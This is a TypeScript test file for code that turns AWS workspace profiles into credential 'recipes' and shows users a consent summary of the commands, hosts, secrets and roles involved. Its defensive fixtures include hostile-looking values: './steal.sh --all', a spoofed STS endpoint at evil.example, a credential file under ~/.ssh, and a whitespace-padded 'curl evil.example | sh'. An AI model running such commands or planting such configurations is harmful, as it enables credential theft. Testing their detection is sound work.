import assert from 'node:assert/strict';
import fc from 'fast-check';
import { askedRecipe, recipeText } from '../../../../../src/core/roles/consent/recipe';
import { recipeSummary, summaryText } from '../../../../../src/core/roles/consent/recipeSummary';
import { baseOf, goOnTo } from '../../../../../src/core/roles/goOn';
import type { Profile, Recipe } from '../../../../../src/core/roles/profile';
import { getProfile } from '../../../../../src/core/roles/profileSet';
import { expandProfile } from '../../../../../src/core/roles/variables';
import { HUB, LAKE, read } from '../profileSetBed';

const keys = { type: 'accessKeys', name: 'alice' };

function recipe(written: unknown, user: unknown = {}): Recipe {
  return workspaceProfile(written, user).workspaceRecipe ?? assert.fail('A profile of the workspace has a recipe.');
}

function workspaceProfile(written: unknown, user: unknown = {}): Profile {
  return getProfile(read(user, { p: written }), 'p');
}

/** A profile with every field that decides something, and what else each could be. */
const FULL = {
  source: keys,
  roleArn: HUB,
  sessionName: '${user}',
  externalId: 'acme',
  durationSeconds: 900,
  mfaSerial: 'arn:aws:iam::111111111111:mfa/alice',
  tags: { a: 'b' },
  transitiveTagKeys: ['a'],
  sourceIdentity: 'alice',
  policy: { Version: '2012-10-17' },
  policyArns: ['arn:aws:iam::aws:policy/ReadOnlyAccess'],
  mfaMethod: 'assumeRole',
  region: 'eu-west-1',
  sts: 'regional',
  fips: false,
  dualStack: false,
  endpoints: { sts: 'http://localhost:1', s3: 'http://localhost:2', sso: 'http://localhost:3' },
  s3: { pathStyle: false, requesterPays: false, encryption: { type: 'aws:kms', keyId: 'a' } },
};
const CHANGES: readonly object[] = [
  { source: { ...keys, name: 'bob' } },
  { source: { type: 'process', command: 'a' } },
  { source: { type: 'process', command: 'b' } },
  { roleArn: LAKE },
  { sessionName: '${env:HOME}' },
  { externalId: { secret: 'x' } },
  { externalId: 'other' },
  { durationSeconds: 1000 },
  { mfaSerial: undefined },
  { mfaMethod: 'sessionToken' },
  { tags: { a: 'c' } },
  { transitiveTagKeys: undefined },
  { sourceIdentity: 'bob' },
  { policy: { Version: '2008-10-17' } },
  { policyArns: undefined },
  { region: 'eu-west-2' },
  { fips: true },
  { dualStack: true },
  { sts: 'global' },
  { endpoints: { ...FULL.endpoints, sts: 'http://localhost:9' } },
  { endpoints: { ...FULL.endpoints, s3: 'http://localhost:9' } },
  { endpoints: { ...FULL.endpoints, sso: 'http://localhost:9' } },
  { s3: { ...FULL.s3, pathStyle: true } },
  { s3: { ...FULL.s3, requesterPays: true } },
  { s3: { ...FULL.s3, encryption: { type: 'SSE-C', key: { secret: 'a' } } } },
];

describe('the text of a recipe', () => {
  it('is another after every change of who one becomes or where requests go', () => {
    const texts = [FULL, ...CHANGES.map((change) => ({ ...FULL, ...change }))].map((each) => recipeText(recipe(each)));
    assert.equal(new Set(texts).size, texts.length);
  });

  it('is another after a change of what it goes on from', () => {
    const goesOn = { source: { type: 'profile', name: 'base' }, roleArn: LAKE };
    const texts = [{ source: keys }, { source: { type: 'process', command: 'a' } }].map((base) =>
      recipeText(recipe(goesOn, { base })),
    );
    assert.notEqual(texts[0], texts[1]);
  });

  it('stays when only words, places on offer or the order of fields change', () => {
    const { source, ...rest } = FULL;
    const reworded = { ...rest, source, description: 'Better words', production: true };
    const moved = { ...reworded, s3: { ...FULL.s3, home: 's3://bucket/', bookmarks: ['s3://other/'] } };
    assert.equal(recipeText(recipe(moved)), recipeText(recipe(FULL)));
  });

  it('tells a list from an object and a name from a value, whatever stands in them', () => {
    const policy = fc.dictionary(fc.string(), fc.jsonValue(), { noNullPrototype: true });
    const of = (value: object): string =>
      recipeText({ ...recipe(FULL), chain: [{ roleArn: HUB, policy: { ...value } }] });
    fc.assert(
      fc.property(policy, policy, (a, b) => {
        const isSame = JSON.stringify(sortedKeys(a)) === JSON.stringify(sortedKeys(b));
        assert.equal(of(a) === of(b), isSame);
      }),
    );
  });
});

function sortedKeys(value: unknown): unknown {
  if (Array.isArray(value)) return value.map(sortedKeys);
  if (typeof value !== 'object' || value === null) return value;
  const entries = Object.entries(value as Record<string, unknown>).sort(([a], [b]) => (a < b ? -1 : 1));
  return ['object', entries.map(([key, item]) => [key, sortedKeys(item)])];
}

describe('the recipe of a workspace', () => {
  const variables = { user: 'alice', hostname: 'host', date: '2026-11-30', env: () => 'secret' };

  it('is as written once the variables are filled in, so that another day asks nothing', () => {
    const profile = workspaceProfile({ source: keys, roleArn: HUB, sessionName: '${date}' });
    const expanded = expandProfile(profile, variables);
    assert.equal(expanded.chain[0]?.sessionName, '2026-11-30');
    assert.deepEqual(expanded.workspaceRecipe, profile.workspaceRecipe);
  });

  it('is asked about with the keys and the token file that it takes, whatever variables they are written with', () => {
    const asked = (written: unknown, basename = 'repo') => {
      const profile = expandProfile(workspaceProfile(written), { ...variables, workspaceFolderBasename: basename });
      return askedRecipe(profile);
    };
    assert.deepEqual(asked({ source: { ...keys, name: '${user}-prod' } })?.source, { ...keys, name: 'alice-prod' });
    const tokens = {
      type: 'webIdentity',
      tokenFile: '/t/${workspaceFolderBasename}',
      roleArn: HUB,
      sessionName: '${date}',
    };
    assert.deepEqual(asked({ source: tokens })?.source, { ...tokens, tokenFile: '/t/repo' });
    const texts = ['repo', '.ssh'].map((basename) => recipeText(asked({ source: tokens }, basename) ?? assert.fail()));
    assert.notEqual(texts[0], texts[1]);
    assert.equal(askedRecipe(getProfile(read({ p: { source: keys } }), 'p')), undefined);
  });

  it('goes along with what is assumed ad hoc on top of it, with the further roles', () => {
    const profile = expandProfile(workspaceProfile({ source: keys, roleArn: HUB, sessionName: '${user}' }), variables);
    const { workspaceRecipe } = goOnTo([LAKE], 'lake', profile);
    assert.deepEqual(
      workspaceRecipe?.chain.map(({ roleArn, sessionName }) => [roleArn, sessionName]),
      [
        [HUB, '${user}'],
        [LAKE, undefined],
      ],
    );
    assert.deepEqual(goOnTo([LAKE], 'lake', baseOf(profile)).workspaceRecipe?.chain, [{ roleArn: LAKE }]);
  });

  it("is none where a person's own profile is gone on from", () => {
    const own = getProfile(read({ p: { source: keys } }), 'p');
    assert.equal('workspaceRecipe' in goOnTo([LAKE], 'lake', own), false);
  });

  it('of a base identity that has no role keeps the guard rails of its profile', () => {
    const own = getProfile(read({ p: { source: keys, production: true } }), 'p');
    assert.equal(baseOf(own).production, true);
  });
});

describe('what a person is shown of a recipe', () => {
  const shown = (written: unknown, user: unknown = {}): string =>
    summaryText(recipeSummary(recipe(written, user))).text;

  it('names commands, hosts, secrets, variables and roles', () => {
    const text = shown(
      {
        source: { type: 'profile', name: 'base' },
        chain: [
          { roleArn: HUB, externalId: { secret: 'partner' }, sessionName: '${env:HOME}' },
          { roleArn: LAKE, tags: { a: '${env:TEAM_NAME}' } },
        ],
        endpoints: { sts: 'https://sts.amazonaws.com@evil.example/x', s3: 'https://store.example:9000' },
        s3: { encryption: { type: 'SSE-C', key: { secret: 'own' } } },
      },
      { base: { source: { type: 'process', command: './steal.sh --all' } } },
    );
    assert.equal(
      text,
      [
        'Runs on this machine:',
        '• ./steal.sh --all',
        '',
        'Sends requests to:',
        '• https://evil.example (STS)',
        '• https://store.example:9000 (Amazon S3)',
        '',
        'Uses:',
        '• the credentials the command prints',
        '• the secret external ID "partner"',
        '• your encryption key "own"',
        '• the environment variable HOME',
        '• the environment variable TEAM_NAME',
        '',
        'Assumes:',
        `• ${HUB}`,
        `• ${LAKE}`,
      ].join('\n'),
    );
  });

  it('says that it is cut where it does not hold everything, so that nobody agrees to what they do not see', () => {
    const cut = (written: object): boolean => summaryText(recipeSummary(recipe(written))).isCut;
    const tags = (count: number): object => ({
      source: keys,
      roleArn: LAKE,
      tags: Object.fromEntries(Array.from({ length: count }, (_, index) => [`t${index}`, `\${env:V${index}}`])),
    });
    assert.deepEqual([cut(tags(3)), cut(tags(40))], [false, true]);
    const command = (length: number): object => ({ source: { type: 'process', command: 'x'.repeat(length) } });
    assert.deepEqual([cut(command(600)), cut(command(601))], [false, true]);
    assert.equal(
      cut({ source: keys, chain: Array.from({ length: 13 }, (_, i) => ({ roleArn: `${LAKE}${i}` })) }),
      true,
    );
  });

  it('names that the person pays', () => {
    assert.match(shown({ source: keys, roleArn: LAKE, s3: { requesterPays: true } }), /your account, which pays/);
  });

  const SOURCES: readonly (readonly [object, RegExp])[] = [
    [keys, /your access keys "alice"/],
    [{ type: 'sharedConfig', profile: 'work' }, /your profile "work" of ~\/\.aws/],
    [{ type: 'environment' }, /the AWS credentials of the environment/],
    [{ type: 'instanceMetadata', endpoint: 'http://evil.example' }, /http:\/\/evil\.example \(instance metadata\)/],
    [{ type: 'container' }, /the role of this container/],
    [
      { type: 'webIdentity', tokenFile: '~/.ssh/id', roleArn: HUB },
      /the token in the file ~\/\.ssh\/id[^]*Assumes:\n• .*Hub/,
    ],
    [
      { type: 'saml', roleArn: HUB, providerArn: 'arn:aws:iam::111111111111:saml-provider/Okta', command: 'okta' },
      /Runs on this machine:\n• okta\n/,
    ],
    [{ type: 'login', profile: 'work' }, /your sign-in of "aws login" for the profile "work"/],
    [{ type: 'defaultChain' }, /the credentials the AWS CLI would use here/],
    [
      {
        type: 'identityCenter',
        startUrl: 'https://evil.example/start',
        region: 'eu-west-1',
        accountId: '111111111111',
        roleName: 'Dev',
      },
      /https:\/\/evil\.example \(sign-in page\)[^]*your sign-in to https:\/\/evil\.example\/start as Dev/,
    ],
  ];
  for (const [source, expected] of SOURCES) {
    it(`tells what ${JSON.stringify(source)} uses`, () => assert.match(shown({ source }), expected));
  }

  it('has no line that the workspace wrote, and an end, whatever the workspace writes', () => {
    const text = fc.string({ unit: 'grapheme', minLength: 1, maxLength: 2000 });
    fc.assert(
      fc.property(text, fc.constantFrom('\n', '\r', '\u2028', '\u0085', '\u202E'), text, (a, between, b) => {
        const command = `x${a}${between}${b}`;
        const lines = shown({ source: { type: 'process', command }, roleArn: HUB }).split(
          /[\n\r\u2028\u2029\u0085\v\f]/,
        );
        assert.equal(lines.length, 8);
        assert.ok((lines[1] ?? '').length < 5000);
        assert.doesNotMatch(lines.join(''), /[\p{Cc}\u202A-\u202E\u2066-\u2069]/u);
      }),
    );
  });

  it('shows the end of a long command too, and how much stands between', () => {
    const command = `echo hello${' '.repeat(3000)}; curl evil.example | sh`;
    assert.match(
      shown({ source: { type: 'process', command } }),
      /echo hello ␣+ … 2434 more characters … ␣+; curl evil\.example \| sh/,
    );
  });
});
